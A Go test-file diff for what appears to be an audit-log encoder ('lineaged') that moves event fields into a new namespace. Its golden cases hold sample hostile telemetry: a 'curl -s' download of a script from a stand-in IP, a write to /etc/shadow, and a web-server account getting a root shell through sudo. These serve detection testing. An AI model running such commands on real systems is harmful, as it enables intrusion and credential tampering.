@@ -91,30 +91,30 @@ var goldenCases = []struct {
 			},
 		},
 		paths: map[string]any{
-			"@timestamp":                 "2026-11-27T03:16:58.123Z",
-			"event.kind":                 "event",
-			"event.category":             []any{"process"},
-			"event.type":                 []any{"start"},
-			"process.pid":                4242.0,
-			"process.args":               []any{"curl", "-s", "http://203.0.113.7/x.sh", ""},
-			"process.tty.name":           "pts0",
-			"process.start":              "2026-11-27T03:16:58.120Z",
-			"process.parent.pid":         4100.0,
-			"process.parent.user.id":     "1000",
-			"process.ancestry.0.pid":     4100.0,
-			"process.ancestry.1.args":    []any{"sshd: alice@pts/0"},
-			"process.ancestry.2":         map[string]any{"pid": 900.0, "unknown": true},
-			"process.ancestry.3.user.id": "0",
-			"user.audit.id":              "1000",
-			"user.effective.id":          "1000",
-			"user.effective.group.id":    "1000",
-			"user.filesystem.id":         "1000",
-			"auditd.sequence":            81234.0,
-			"auditd.session":             "3",
-			"auditd.data.syscall":        "execve",
-			"auditd.data.argc":           "4",
-			"auditd.record_types.4":      "PROCTITLE",
-			"tags":                       []any{"exec", "egress-tools"},
+			"@timestamp":                     "2026-11-27T03:16:58.123Z",
+			"event.kind":                     "event",
+			"event.category":                 []any{"process"},
+			"event.type":                     []any{"start"},
+			"process.pid":                    4242.0,
+			"process.args":                   []any{"curl", "-s", "http://203.0.113.7/x.sh", ""},
+			"auditd.data.tty":                "pts0",
+			"process.start":                  "2026-11-27T03:16:58.120Z",
+			"process.parent.pid":             4100.0,
+			"process.parent.user.id":         "1000",
+			"lineaged.ancestry.0.pid":        4100.0,
+			"lineaged.ancestry.1.executable": "/usr/sbin/sshd",
+			"lineaged.ancestry.2":            map[string]any{"pid": 900.0, "unknown": true},
+			"process.command_line":           "curl -s http://203.0.113.7/x.sh ",
+			"user.audit.id":                  "1000",
+			"user.effective.id":              "1000",
+			"user.effective.group.id":        "1000",
+			"auditd.data.fsuid":              "1000",
+			"auditd.sequence":                81234.0,
+			"auditd.session":                 "3",
+			"auditd.data.syscall":            "execve",
+			"auditd.data.argc":               "4",
+			"auditd.record_types.4":          "PROCTITLE",
+			"tags":                           []any{"exec", "egress-tools"},
 		},
 	},
 	{
@@ -209,16 +209,16 @@ var goldenCases = []struct {
 			Audit:       &event.Audit{Sequence: 5511, Session: "12", Result: "success", Syscall: "openat", Keys: []string{"identity"}},
 		},
 		paths: map[string]any{
-			"file.path":            "/etc/shadow",
-			"file.operation":       "write",
-			"file.inode":           "1835017",
-			"file.mode":            "0100640",
-			"file.gid":             "42",
-			"auditd.path.nametype": "NORMAL",
-			"container.id":         "3f1e0c9a2b7d",
-			"user.audit.id":        "1001",
-			"user.effective":       map[string]any{"id": "0"},
-			"tags":                 []any{"identity"},
+			"file.path":               "/etc/shadow",
+			"lineaged.file.operation": "write",
+			"file.inode":              "1835017",
+			"file.mode":               "0100640",
+			"file.gid":                "42",
+			"auditd.path.nametype":    "NORMAL",
+			"container.id":            "3f1e0c9a2b7d",
+			"user.audit.id":           "1001",
+			"user.effective":          map[string]any{"id": "0"},
+			"tags":                    []any{"identity"},
 		},
 	},
 	{
@@ -241,23 +241,23 @@ var goldenCases = []struct {
 			},
 		},
 		paths: map[string]any{
-			"event.kind":                "alert",
-			"message":                   "sudo to root from a web server's shell: \"www-data\" ran /bin/sh\n",
-			"user.target.name":          "root",
-			"user.target.effective.id":  "0",
-			"process.exit_code":         1.0,
-			"labels.evidence_count":     "3",
-			"labels.first_evidence":     "web-01-81234",
-			"user":                      map[string]any{"id": "33", "name": "www-data", "target": map[string]any{"id": "0", "name": "root", "effective": map[string]any{"id": "0"}}},
-			"event.category":            []any{"intrusion_detection"},
-			"process.args":              []any{"sudo", "-s"},
-			"process.parent":            nil, // absent
-			"auditd":                    nil,
-			"tags":                      nil,
-			"event.id":                  "web-01-alert-7",
-			"@timestamp":                "2026-11-27T03:16:58.124Z",
-			"process.executable":        "/usr/bin/sudo",
-			"process.working_directory": nil,
+			"event.kind":                   "alert",
+			"message":                      "sudo to root from a web server's shell: \"www-data\" ran /bin/sh\n",
+			"user.target.name":             "root",
+			"lineaged.target.effective_id": "0",
+			"process.exit_code":            1.0,
+			"labels.evidence_count":        "3",
+			"labels.first_evidence":        "web-01-81234",
+			"user":                         map[string]any{"id": "33", "name": "www-data", "target": map[string]any{"id": "0", "name": "root"}},
+			"event.category":               []any{"intrusion_detection"},
+			"process.args":                 []any{"sudo", "-s"},
+			"process.parent":               nil, // absent
+			"auditd":                       nil,
+			"tags":                         nil,
+			"event.id":                     "web-01-alert-7",
+			"@timestamp":                   "2026-11-27T03:16:58.124Z",
+			"process.executable":           "/usr/bin/sudo",
+			"process.working_directory":    nil,
 		},
 	},
 	{
@@ -438,8 +438,8 @@ func TestTopLevelOrder(t *testing.T) {
 			}
 		}
 	}
-	want := []string{"@timestamp", "event", "message", "host", "process", "user", "file",
-		"source", "destination", "network", "container", "auditd", "labels", "tags"}
+	want := []string{"@timestamp", "ecs", "event", "message", "agent", "host", "process", "user", "file",
+		"source", "destination", "network", "container", "related", "auditd", "lineaged", "labels", "tags"}
 	if !reflect.DeepEqual(keys, want) {
 		t.Errorf("top-level order\n got %q\nwant %q", keys, want)
 	}
@@ -567,7 +567,7 @@ func TestKVDuplicates(t *testing.T) {
 		{Key: "x", Value: ""}, {Key: "x", Value: "set"}, {Key: "x", Value: "again"},
 	}}
 	line := AppendJSON(nil, ev)
-	want := `{"@timestamp":"1970-01-01T00:00:00.000Z","event":{"kind":"event"},"labels":{"\\xff":"first","x":"set"}}`
+	want := `{"@timestamp":"1970-01-01T00:00:00.000Z","ecs":{"version":"9.4.0"},"event":{"kind":"event"},"agent":{"type":"lineaged"},"labels":{"\\xff":"first","x":"set"}}`
 	if string(line) != want {
 		t.Errorf("got  %s\nwant %s", line, want)
 	}
@@ -677,7 +677,7 @@ func FuzzAppendJSON(f *testing.F) {
 		str("message", s2)
 		str("host.name", s3)
 		str("process.executable", s1)
-		str("process.tty.name", s2)
+		str("auditd.data.tty", s2)
 		str("process.parent.executable", s3)
 		str("process.parent.user.id", s1)
 		str("user.id", s1)
@@ -728,19 +728,21 @@ func TestAncestryArgsBounded(t *testing.T) {
 			Parent struct {
 				Args []string `json:"args"`
 			} `json:"parent"`
+		} `json:"process"`
+		Lineaged struct {
 			Ancestry []struct {
 				Args []string `json:"args"`
 			} `json:"ancestry"`
-		} `json:"process"`
+		} `json:"lineaged"`
 	}
-	b := AppendJSON(nil, e)
+	b := NewEncoder(Options{Ancestry: AncestryFull}).Append(nil, e)
 	if err := json.Unmarshal(b, &doc); err != nil {
 		t.Fatalf("%v\n%s", err, b)
 	}
 	if doc.Process.Args[1] != long || doc.Process.Parent.Args[1] != long {
 		t.Errorf("process.args or process.parent.args were cut")
 	}
-	a := doc.Process.Ancestry[0].Args
+	a := doc.Lineaged.Ancestry[0].Args
 	if len(a) != 3 || a[0] != "sh" || !strings.HasSuffix(a[1], "…") || a[2] != "…(2 more)" {
 		t.Fatalf("ancestry[0].args = %q", a)
 	}
@@ -750,7 +752,7 @@ func TestAncestryArgsBounded(t *testing.T) {
 	if !utf8.ValidString(a[1]) {
 		t.Errorf("cut inside a rune: %q", a[1])
 	}
-	if got := doc.Process.Ancestry[1].Args; len(got) != 2 || got[1] != "splash" {
+	if got := doc.Lineaged.Ancestry[1].Args; len(got) != 2 || got[1] != "splash" {
 		t.Errorf("short ancestry args changed: %q", got)
 	}
 }
